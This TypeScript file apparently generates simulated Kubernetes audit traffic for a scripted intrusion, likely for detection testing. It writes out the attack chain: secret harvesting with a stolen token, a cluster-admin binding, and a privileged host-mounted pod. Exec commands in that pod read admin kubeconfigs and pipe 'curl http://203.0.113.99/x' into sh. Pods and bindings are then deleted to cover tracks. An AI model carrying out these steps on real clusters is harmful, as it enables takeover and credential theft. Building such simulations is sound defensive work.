/**
 * The scripted story in the traffic: a stolen service account token is tried out, secrets are read, a pipeline's token
 * among them; with that the intruder makes himself administrator, starts a privileged pod, works in it and tidies up.
 */
import type { JsonObject } from "../../../shared/event.ts";
import { type Actor, actor } from "../actor.ts";
import { clusterRoleBinding, tokenRequest } from "../bodies/access.ts";
import { secretList, storedSecret } from "../bodies/config.ts";
import { wholeTime } from "../clock.ts";
import { APPLICATION_NAMESPACES } from "../cluster.ts";
import { ask, core, forbidden, revision, type Scene, target } from "../scene.ts";

export const INTRUDER = {
  ip: "203.0.113.66",
  /** User agents: curl first, then kubectl with the better token. */
  agents: ["curl/8.9.1", "kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc"],
  binding: "system-metrics-aggregator",
  pod: { namespace: "kube-system", name: "node-shell" },
} as const;

interface Step {
  /** Place in the story, 0 to 1. */
  readonly when: number;
  readonly act: (at: number) => void;
}

/** Plays the whole story between `start` and `start + length` (microseconds). */
export function intrude(scene: Scene, start: number, length: number): void {
  for (const step of [
    ...enumerate(scene),
    ...harvest(scene),
    ...escalate(scene),
    ...operate(scene, length),
    ...coverUp(scene),
  ]) {
    step.act(start + Math.floor(step.when * length));
  }
}

/** Identities under which the intruder appears: name them to find him. */
export function intruderNames(scene: { cluster: Scene["cluster"] }): string[] {
  const { storefront, deployer } = scene.cluster;
  return [storefront, deployer].map((who) => String(who.user["username"]));
}

/** The stolen account once the binding is there. */
function promoted(scene: Scene): Actor {
  const { user, ips, agent } = stolen(scene, scene.cluster.storefront);
  const reason = `RBAC: allowed by ClusterRoleBinding "${INTRUDER.binding}" of ClusterRole "cluster-admin" to ServiceAccount "storefront/web"`;
  return actor(user, ips, agent, reason);
}

function stolen(scene: Scene, who: Actor): Actor {
  return actor(who.user, [INTRUDER.ip], INTRUDER.agents[who === scene.cluster.storefront ? 0 : 1], who.reason);
}

function enumerate(scene: Scene): Step[] {
  const who = stolen(scene, scene.cluster.storefront);
  const tried = [
    core("nodes"),
    core("namespaces"),
    target("rbac.authorization.k8s.io", "v1", "clusterrolebindings"),
    ...APPLICATION_NAMESPACES.filter((namespace) => namespace !== "web").map((namespace) => core("secrets", namespace)),
    core("secrets", "kube-system"),
  ];
  const rules: Step = {
    when: 0,
    act: (at) =>
      ask(scene, who, at, "create", target("authorization.k8s.io", "v1", "selfsubjectrulesreviews"), {
        body: () => ({
          kind: "SelfSubjectRulesReview",
          apiVersion: "authorization.k8s.io/v1",
          metadata: { creationTimestamp: null },
          spec: { namespace: "web" },
          status: { resourceRules: null, nonResourceRules: null, incomplete: false },
        }),
      }),
  };
  const attempts = tried.map(
    (about, index): Step => ({
      when: 0.02 + index * 0.012,
      act: (at) =>
        ask(scene, who, at, "list", about, {
          query: "limit=500",
          code: 403,
          failure: forbidden(who, "list", about),
          decision: "forbid",
        }),
    }),
  );
  return [rules, ...attempts];
}

function harvest(scene: Scene): Step[] {
  const { random, cluster } = scene;
  const first = stolen(scene, cluster.storefront);
  const second = stolen(scene, cluster.deployer);
  const list = (who: Actor, namespace: string) => (at: number) =>
    ask(scene, who, at, "list", core("secrets", namespace), {
      query: "limit=500",
      reply: () => secretList(random, cluster.vault, namespace, 6, at, revision(scene)),
    });
  const get = (who: Actor, namespace: string, name: string) => (at: number) =>
    ask(scene, who, at, "get", core("secrets", namespace, name), {
      reply: () => storedSecret(random, cluster.vault, { namespace, name }, at, revision(scene)),
    });
  return [
    { when: 0.2, act: list(first, "web") },
    { when: 0.22, act: get(first, "web", "ci-deployer-token") },
    { when: 0.23, act: get(first, "web", "web-api-session") },
    ...APPLICATION_NAMESPACES.map(
      (namespace, index): Step => ({ when: 0.3 + index * 0.01, act: list(second, namespace) }),
    ),
    ...APPLICATION_NAMESPACES.map(
      (namespace, index): Step => ({ when: 0.4 + index * 0.01, act: get(second, namespace, `${namespace}-api-tls`) }),
    ),
  ];
}

function escalate(scene: Scene): Step[] {
  const { random, cluster } = scene;
  const who = stolen(scene, cluster.deployer);
  const binding = { name: INTRUDER.binding, role: "cluster-admin", namespace: "web", account: "storefront" };
  const pod = cluster.pods.find((candidate) => candidate.workload.namespace === "web");
  return [
    {
      when: 0.52,
      act: (at) =>
        ask(
          scene,
          who,
          at,
          "create",
          target("rbac.authorization.k8s.io", "v1", "clusterrolebindings", { name: binding.name }),
          {
            query: "fieldManager=kubectl-create&fieldValidation=Strict",
            body: () => clusterRoleBinding(binding, at),
            reply: () => clusterRoleBinding(binding, at, { uid: random.uuid(), revision: revision(scene) }),
          },
        ),
    },
    {
      when: 0.55,
      act: (at) =>
        ask(scene, who, at, "create", core("serviceaccounts", "web", "storefront", "token"), {
          ...(pod === undefined
            ? {}
            : {
                body: () => tokenRequest(pod, at),
                reply: () => tokenRequest(pod, at, random.pick(cluster.vault.tokens)),
              }),
          annotations: { "authentication.kubernetes.io/issued-credential-id": `JTI=${random.uuid()}` },
        }),
    },
  ];
}

function operate(scene: Scene, length: number): Step[] {
  const { random, cluster } = scene;
  const who = promoted(scene);
  const { namespace, name } = INTRUDER.pod;
  const node = cluster.nodes[0];
  if (node === undefined) return [];
  const uid = random.uuid();
  const shell = (script: string, share: number) => (at: number) =>
    ask(scene, who, at, "create", core("pods", namespace, name, "exec"), {
      query: `command=sh&command=-c&command=${encodeURIComponent(script)}&container=shell&stderr=true&stdout=true`,
      code: 101,
      took: Math.max(2_000, Math.floor(length * share)),
      stages: "open",
    });
  return [
    {
      when: 0.6,
      act: (at) =>
        ask(scene, who, at, "create", core("pods", namespace, name), {
          query: "fieldManager=kubectl-run",
          body: () => privilegedPod(node.name),
          reply: () =>
            privilegedPod(node.name, { uid, resourceVersion: revision(scene), creationTimestamp: wholeTime(at) }),
          annotations: { "pod-security.kubernetes.io/enforce-policy": "privileged:latest" },
        }),
    },
    {
      when: 0.61,
      act: (at) =>
        ask(scene, node.kubelet, at, "patch", core("pods", namespace, name, "status"), {
          body: () => ({ metadata: { uid }, status: { phase: "Running", hostIP: node.ip } }),
        }),
    },
    { when: 0.65, act: shell("chroot /host cat /etc/kubernetes/admin.conf /var/lib/kubelet/kubeconfig", 0.01) },
    { when: 0.7, act: shell("chroot /host sh -c 'curl -s http://203.0.113.99/x | sh'", 0.1) },
    {
      when: 0.75,
      act: (at) =>
        ask(scene, who, at, "list", core("secrets"), {
          query: "limit=500",
          reply: () => secretList(random, cluster.vault, "payments", 30, at, revision(scene)),
        }),
    },
  ];
}

function coverUp(scene: Scene): Step[] {
  const { cluster } = scene;
  const who = promoted(scene);
  const remove = (namespace: string, name: string) => (at: number) =>
    ask(scene, who, at, "delete", core("pods", namespace, name), {
      body: () => ({ kind: "DeleteOptions", apiVersion: "v1", gracePeriodSeconds: 0, propagationPolicy: "Background" }),
      reply: () => ({
        kind: "Status",
        apiVersion: "v1",
        metadata: {},
        status: "Success",
        details: { name, kind: "pods" },
      }),
    });
  const witnesses = cluster.pods.filter((pod) => pod.workload.namespace === "web").slice(0, 2);
  return [
    { when: 0.86, act: remove(INTRUDER.pod.namespace, INTRUDER.pod.name) },
    ...witnesses.map((pod, index): Step => ({ when: 0.89 + index * 0.02, act: remove("web", pod.name) })),
    {
      when: 0.95,
      act: (at) =>
        ask(
          scene,
          who,
          at,
          "delete",
          target("rbac.authorization.k8s.io", "v1", "clusterrolebindings", { name: INTRUDER.binding }),
          {
            reply: () => ({
              kind: "Status",
              apiVersion: "v1",
              metadata: {},
              status: "Success",
              details: { name: INTRUDER.binding, group: "rbac.authorization.k8s.io", kind: "clusterrolebindings" },
            }),
          },
        ),
    },
  ];
}

function privilegedPod(node: string, stored: JsonObject = { creationTimestamp: null }): JsonObject {
  const { namespace, name } = INTRUDER.pod;
  return {
    kind: "Pod",
    apiVersion: "v1",
    metadata: { name, namespace, labels: { run: name }, ...stored },
    spec: {
      volumes: [{ name: "host", hostPath: { path: "/", type: "" } }],
      containers: [
        {
          name: "shell",
          image: "docker.example.com/alpine:3.22",
          command: ["sleep", "86400"],
          resources: {},
          volumeMounts: [{ name: "host", mountPath: "/host" }],
          imagePullPolicy: "IfNotPresent",
          securityContext: { privileged: true },
        },
      ],
      restartPolicy: "Never",
      hostNetwork: true,
      hostPID: true,
      nodeName: node,
      tolerations: [{ operator: "Exists" }],
    },
    status: {},
  };
}
